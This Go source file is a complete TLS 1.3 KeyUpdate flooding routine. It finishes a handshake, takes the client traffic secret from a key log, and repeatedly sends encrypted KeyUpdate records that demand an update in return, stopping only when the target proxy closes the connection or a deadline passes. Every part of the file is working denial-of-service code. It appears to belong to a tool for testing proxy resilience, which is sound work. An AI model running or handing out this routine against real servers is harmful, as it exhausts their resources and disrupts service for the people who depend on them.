package attack

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/tls"
	"encoding/hex"
	"errors"
	"fmt"
	"hash"
	"net"
	"slices"
	"strings"
	"time"
)

// rekeyer writes TLS 1.3 records with the client's keys of a finished handshake
// (RFC 8446, sections 5.2 and 7). Go's client has no way to send a KeyUpdate.
type rekeyer struct {
	conn   net.Conn
	secret []byte
	// hash and keyLength are those of the cipher suite.
	hash      func() hash.Hash
	keyLength int
}

// keyUpdates asks for new keys until the proxy has had enough.
func (a *Attacker) keyUpdates() {
	r, err := newRekeyer(a.TLS)
	if err != nil {
		a.trouble(err)
		return
	}
	defer r.conn.Close()
	a.opened(1, 0)
	start := time.Now()
	over := make(chan bool, 1)
	go func() { over <- closes(r.conn, a.Patience) }()
	err = r.conn.SetWriteDeadline(start.Add(a.Patience))
	for err == nil {
		err = r.update()
	}
	ended := <-over
	a.closed(time.Since(start), ended)
}

// newRekeyer makes the handshake.
func newRekeyer(address string) (*rekeyer, error) {
	conn, err := net.Dial("tcp", address)
	if err != nil {
		return nil, err
	}
	var secrets bytes.Buffer
	config := clientTLS()
	config.MinVersion = tls.VersionTLS13
	config.KeyLogWriter = &secrets
	client := tls.Client(conn, config)
	err = client.Handshake()
	if err == nil {
		r := &rekeyer{conn: conn}
		if err = r.use(client.ConnectionState().CipherSuite, secrets.String()); err == nil {
			return r, nil
		}
	}
	return nil, errors.Join(err, conn.Close())
}

// use takes the keys of a finished handshake.
func (r *rekeyer) use(suite uint16, log string) (err error) {
	switch suite {
	case tls.TLS_AES_128_GCM_SHA256:
		r.hash, r.keyLength = sha256.New, 16
	case tls.TLS_AES_256_GCM_SHA384:
		r.hash, r.keyLength = sha512.New384, 32
	default:
		return fmt.Errorf("no key updates with %s", tls.CipherSuiteName(suite))
	}
	r.secret, err = clientSecret(log)
	return err
}

// clientSecret finds the client's first application traffic secret in a key
// log.
func clientSecret(log string) ([]byte, error) {
	for line := range strings.Lines(log) {
		if words := strings.Fields(line); len(words) == 3 && words[0] == "CLIENT_TRAFFIC_SECRET_0" {
			return hex.DecodeString(words[2])
		}
	}
	return nil, errors.New("the handshake left no secret")
}

// update sends a KeyUpdate that asks for one in return, and goes on to the next
// keys. Each generation of keys protects this one record, the first.
func (r *rekeyer) update() error {
	block, err := aes.NewCipher(r.expand("key", r.keyLength))
	if err != nil {
		return err
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return err
	}
	const keyUpdate, updateRequested, handshakeContent, applicationData = 24, 1, 22, 23
	plain := []byte{keyUpdate, 0, 0, 1, updateRequested, handshakeContent}
	header := []byte{applicationData, 3, 3, 0, byte(len(plain) + aead.Overhead())}
	record := slices.Concat(header, aead.Seal(nil, r.expand("iv", aead.NonceSize()), plain, header))
	r.secret = r.expand("traffic upd", len(r.secret))
	_, err = r.conn.Write(record)
	return err
}

// expand is HKDF-Expand-Label with an empty context.
func (r *rekeyer) expand(label string, length int) []byte {
	label = "tls13 " + label
	info := fmt.Sprintf("\x00%c%c%s\x00", length, len(label), label)
	key, err := hkdf.Expand(r.hash, r.secret, info, length)
	if err != nil {
		panic(err)
	}
	return key
}
